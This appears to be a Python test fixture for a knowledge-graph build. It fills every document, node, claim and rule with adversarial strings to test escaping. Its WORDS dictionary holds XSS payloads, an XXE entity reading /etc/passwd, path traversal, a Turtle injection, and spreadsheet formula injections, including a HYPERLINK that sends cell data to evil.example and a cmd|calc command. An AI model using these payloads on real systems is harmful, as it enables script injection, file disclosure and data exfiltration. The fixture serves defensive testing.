"""A build in which every text that somebody else may write tries to be something else."""

from __future__ import annotations

from datetime import date
from typing import Any

from kg.identity import claim_id, evidence_id, statement_id
from kg.model import (
    Antecedent,
    Disposition,
    Document,
    Evidence,
    Extraction,
    Knowledge,
    Literal,
    Node,
    Sentence,
    Span,
    Statement,
    Status,
    Unresolved,
    Zone,
    ZoneKind,
)
from kg.vocabulary import iri

BASE = "https://kg.example.org/"

#: Each is a title, a publisher, a label, a name, a claim, a value, a qualifier, a speaker, a rule and a file's name.
WORDS = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><img src=x onerror=alert(2)>",
    "end of style": "</style></title></textarea><svg onload=alert(3)>",
    "comment": "<!--<script>--!>-->",
    "cdata": "]]><![CDATA[<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;]]>",
    "entity": "&lt;b&gt; &amp;amp; &#60;",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} {0} %s",
    "quotes": "\"double\" 'single' `back` ''' \"\"\"",
    "backslashes": "C:\\new\\table\\u0041 \\",
    "separators": "line\u2028and\u2029paragraph",
    "turned round": "\u202eright to left\u202c \u2066isolated",
    "control": "\x01\x08\x0b\x0c\x1b\x1f\x7f\x85 control",
    "no characters": "\ufffe\uffff\ufdd0 not characters",
    "emoji": "🍵 tea 👩\u200d💻 \U0010fffd",
    "lines": "one\r\ntwo\rthree\n\nfour\tfive",
    "long": "Donaudampfschifffahrts" * 40,
    "prototype": "__proto__",
    "constructor": "constructor",
    "path": "../../etc/passwd?a=b#c%00%2F:",
    "scheme": "javascript:alert(4)//",
    "turtle": '" . <http://evil.example/> <http://evil.example/> "',
    "equals": "=1+1",
    "call": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide": "＝1+1",
    "wide at": "＠SUM(1)",
    "small": "﹦1+1",
    "after a quote": '"=1+1"',
    "after spaces": " \u00a0\u200b=1+1",
    "after a semicolon": "a;=1+1;@b\n-c\t+d",
    "separated": 'a","b;"=1',
}


def document(number: int, words: str) -> Document:
    """A document whose name, title, publisher and text are these words."""
    return Document(
        f"{number} {words}",
        f"A 🍵 {words} met {words}. They said {words} of it. Perhaps {words} was asked. Nobody read {words}.",
        title=f"Title {words}",
        publisher=f"Publisher {words}",
        published=date(2024, 1, 1 + number % 28),
        machine_translated=bool(number % 2),
    )


def _sentences(made: Document, words: str) -> tuple[Sentence, ...]:
    heads = (f"A 🍵 {words} met", f"They said {words} of", f"Perhaps {words} was", f"Nobody read {words}.")
    starts = [made.text.index(head) for head in heads]
    ends = [*(start - 1 for start in starts[1:]), len(made.text)]
    spans = [Span(*span) for span in zip(starts, ends, strict=True)]
    return tuple(Sentence(n, span, Zone(ZoneKind.BODY, span), 1) for n, span in enumerate(spans))


def _extraction(number: int, words: str) -> tuple[Extraction, tuple[Disposition, ...]]:
    made = document(number, words)
    met, said, asked, nobody = sentences = _sentences(made, words)
    person = Node(iri(BASE, "id", f"{number} {words}"), f"Person {words}", "Person", (words, f"Alias {words}"))
    if number % 2:
        # Some begin with what they try to be.
        person = Node(person.iri, words, "Person", (f"Alias {words}",), candidate=True)
    body = Node(iri(BASE, "id", made.name, words), f"{words} body", "Ministry", (words,), candidate=True)
    claim = Node(f"{BASE}claim/{claim_id(person.iri, words)}", f"{words[:12]}…", "Claim", words=words)

    def evidence(of: Sentence, subject: str, rule: str, **more: Any) -> Evidence:
        quote = made.text[slice(*of.span)]
        at = of.span.start + quote.index(words)
        spans = (("subject", Span(at, at + len(words))), ("object", Span(of.span.end - 4, of.span.end)))
        name = evidence_id(f"{number} {subject}", made.name, of.span, rule, spans)
        pronoun = Antecedent("object", (Span(4, 4 + len(words)),), words)
        return Evidence(name, made.name, of.span, quote, rule, words, words, spans, (pronoun,), **more)

    def fact(prop: str, thing: Node | Literal, given: Evidence, *, status: Status = Status.ASSERTED) -> Statement:
        relation = "holdsPost" if prop == "ministerOf" else prop
        qualifiers = (("metric", words), *((("post", words),) if relation == "holdsPost" else ()))
        name = statement_id(person.iri, prop, thing, status, qualifiers)
        return Statement(name, person, relation, prop, thing, status, qualifiers, (given,))

    rule = f"rule.{words}"
    told = (("attributedTo", words), ("dateText", words))
    facts = (
        fact("memberOf", body, evidence(met, "m", rule, qualifiers=told, speaker=person)),
        fact("ministerOf", body, evidence(met, "p", rule)),
        fact("ministerOf", body, evidence(met, "f", rule), status=Status.FORMER),
        fact("said", claim, evidence(said, "s", rule, qualifiers=told, speaker=person)),
        fact("alsoKnownAs", Literal(words), evidence(said, "v", rule)),
    )
    refused = (fact("attended", body, evidence(asked, "r", rule, guard=words), status=Status.ASKED),)
    unresolved = (Unresolved(nobody.index, rule, words, words, words),)
    kinds = (("extracted", rule), ("extracted", rule), ("refused", rule), ("unresolved", words))
    dispositions = tuple(Disposition(one, *kind) for one, kind in zip(sentences, kinds, strict=True))
    return Extraction(made, sentences, facts, refused, unresolved), dispositions


_MADE = [_extraction(number, words) for number, words in enumerate(WORDS.values())]

KNOWLEDGE = Knowledge(
    tuple(one for one, _ in _MADE),
    tuple(fact for one, _ in _MADE for fact in one.statements),
    tuple(fact for one, _ in _MADE for fact in one.refused),
    tuple((one.document.name, dispositions) for one, dispositions in _MADE),
)

RULES = {f"rule.{words}": (f"Says {words}", words) for words in WORDS.values()}
